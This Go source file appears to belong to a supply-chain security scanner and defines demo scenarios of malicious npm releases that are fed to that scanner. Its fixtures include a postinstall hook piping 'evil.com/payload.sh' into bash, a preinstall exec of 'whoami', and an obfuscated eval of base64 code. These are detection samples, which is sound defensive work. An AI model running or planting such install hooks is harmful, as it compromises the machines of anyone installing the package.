// Package demo holds the canned malicious-release scenarios and the
// helpers that feed them into a running swarm.
package demo

import (
	"context"
	"fmt"
	"log/slog"
	"sort"
	"strings"

	"github.com/daimoniac/swarmshield/internal/errors"
	"github.com/daimoniac/swarmshield/internal/registry"
	"github.com/daimoniac/swarmshield/internal/scanner"
	"github.com/daimoniac/swarmshield/internal/types"
)

// Source is recorded on releases triggered through the demo harness
const Source = "demo"

// DefaultScenario is used when a trigger names no scenario
const DefaultScenario = "typosquat"

// Scenario is a simulated malicious release
type Scenario struct {
	Name            string             `json:"name"`
	Description     string             `json:"description"`
	PreviousVersion string             `json:"previousVersion"`
	RepoURL         string             `json:"repoUrl"`
	Release         types.ReleaseEvent `json:"release"`
}

var scenarios = map[string]Scenario{
	"typosquat": {
		Name:            "typosquat",
		Description:     "Typosquat of lodash that downloads and runs a shell payload on install",
		PreviousVersion: "1.0.0",
		RepoURL:         "https://github.com/malicious/lodash-utils",
		Release: types.ReleaseEvent{
			PackageName: "lodash-utils",
			Version:     "1.0.1",
			LifecycleScripts: map[string]string{
				"postinstall": "curl -s https://evil.com/payload.sh | bash",
			},
		},
	},
	"malicious_scripts": {
		Name:            "malicious_scripts",
		Description:     "Install hooks that fetch a remote script and spawn child processes",
		PreviousVersion: "2.2.0",
		RepoURL:         "https://github.com/malicious/express-validator-utils",
		Release: types.ReleaseEvent{
			PackageName: "express-validator-utils",
			Version:     "2.3.0",
			LifecycleScripts: map[string]string{
				"postinstall": "curl -s https://evil.com/payload.sh | bash",
				"preinstall":  `node -e "require('child_process').exec('whoami')"`,
			},
		},
	},
	"obfuscated": {
		Name:            "obfuscated",
		Description:     "Hex-escaped identifiers and a base64 payload passed to eval",
		PreviousVersion: "0.4.0",
		RepoURL:         "https://github.com/malicious/react-dom-helper",
		Release: types.ReleaseEvent{
			PackageName:      "react-dom-helper",
			Version:          "0.5.0",
			LifecycleScripts: map[string]string{"postinstall": "node index.js"},
			SourceFiles: map[string]string{
				"index.js": `var _0x1234=['\x65\x76\x61\x6c'];eval(atob('Y29uc29sZS5sb2coJ21hbGljaW91cycpOw=='));` +
					strings.Repeat("A", 150),
			},
		},
	},
}

// Scenarios returns every scenario sorted by name
func Scenarios() []Scenario {
	out := make([]Scenario, 0, len(scenarios))
	for _, s := range scenarios {
		out = append(out, s)
	}
	sort.Slice(out, func(i, j int) bool { return out[i].Name < out[j].Name })
	return out
}

// Lookup returns a copy of the named scenario
func Lookup(name string) (Scenario, error) {
	if name == "" {
		name = DefaultScenario
	}
	s, ok := scenarios[name]
	if !ok {
		return Scenario{}, errors.NewInvalidInputf("unknown scenario %q (must be one of %s)", name, strings.Join(names(), ", "))
	}
	s.Release = copyRelease(s.Release)
	s.Release.Source = Source
	return s, nil
}

func names() []string {
	out := make([]string, 0, len(scenarios))
	for name := range scenarios {
		out = append(out, name)
	}
	sort.Strings(out)
	return out
}

func copyRelease(ev types.ReleaseEvent) types.ReleaseEvent {
	ev.LifecycleScripts = copyMap(ev.LifecycleScripts)
	ev.SourceFiles = copyMap(ev.SourceFiles)
	ev.DeclaredDependencies = copyMap(ev.DeclaredDependencies)
	return ev
}

func copyMap(m map[string]string) map[string]string {
	if m == nil {
		return nil
	}
	out := make(map[string]string, len(m))
	for k, v := range m {
		out[k] = v
	}
	return out
}

// Scanner scans one release
type Scanner interface {
	Scan(ctx context.Context, ev types.ReleaseEvent) (*scanner.Result, error)
}

// Registrar registers agents in the agent registry
type Registrar interface {
	Register(a registry.Agent) (registry.Agent, error)
}

// TriggerRequest selects a scenario. PackageName and ProjectID are optional
// overrides.
type TriggerRequest struct {
	Scenario    string `json:"scenario"`
	PackageName string `json:"packageName,omitempty"`
	ProjectID   string `json:"projectId,omitempty"`
}

// TriggerResult reports what a triggered scenario produced
type TriggerResult struct {
	Scenario   string          `json:"scenario"`
	IncidentID string          `json:"incidentId,omitempty"`
	Message    string          `json:"message"`
	Scan       *scanner.Result `json:"scan"`
}

// Harness triggers scenarios and seeds demo agents
type Harness struct {
	scanner   Scanner
	registrar Registrar
	agents    []registry.Agent
	logger    *slog.Logger
}

// New creates a harness. agents are the records Seed registers.
func New(s Scanner, reg Registrar, agents []registry.Agent, logger *slog.Logger) *Harness {
	if logger == nil {
		logger = slog.Default()
	}
	return &Harness{
		scanner:   s,
		registrar: reg,
		agents:    agents,
		logger:    logger.With("component", "demo"),
	}
}

// Trigger feeds the scenario's release to the scanner
func (h *Harness) Trigger(ctx context.Context, req TriggerRequest) (*TriggerResult, error) {
	scenario, err := Lookup(req.Scenario)
	if err != nil {
		return nil, err
	}

	ev := scenario.Release
	if req.PackageName != "" {
		ev.PackageName = req.PackageName
	}
	ev.ProjectID = req.ProjectID

	res, err := h.scanner.Scan(ctx, ev)
	if err != nil {
		return nil, fmt.Errorf("failed to scan %s: %w", ev.Key(), err)
	}

	out := &TriggerResult{
		Scenario:   scenario.Name,
		IncidentID: res.IncidentID,
		Scan:       res,
	}
	switch {
	case res.IncidentID == "":
		out.Message = fmt.Sprintf("Triggered %s scenario for %s: no risk indicators found", scenario.Name, ev.Key())
	case res.Deduplicated:
		out.Message = fmt.Sprintf("Triggered %s scenario for %s: matches open incident", scenario.Name, ev.Key())
	default:
		out.Message = fmt.Sprintf("Triggered %s scenario for %s", scenario.Name, ev.Key())
	}

	h.logger.Info("demo scenario triggered",
		"scenario", scenario.Name,
		"package", ev.PackageName,
		"version", ev.Version,
		"incident_id", res.IncidentID)
	return out, nil
}

// Seed registers the demo agents and returns how many were registered
func (h *Harness) Seed(ctx context.Context) (int, error) {
	n := 0
	for _, a := range h.agents {
		if err := ctx.Err(); err != nil {
			return n, err
		}
		if _, err := h.registrar.Register(a); err != nil {
			return n, fmt.Errorf("failed to register %s: %w", a.Identity, err)
		}
		n++
	}
	h.logger.Info("demo agents seeded", "count", n)
	return n, nil
}
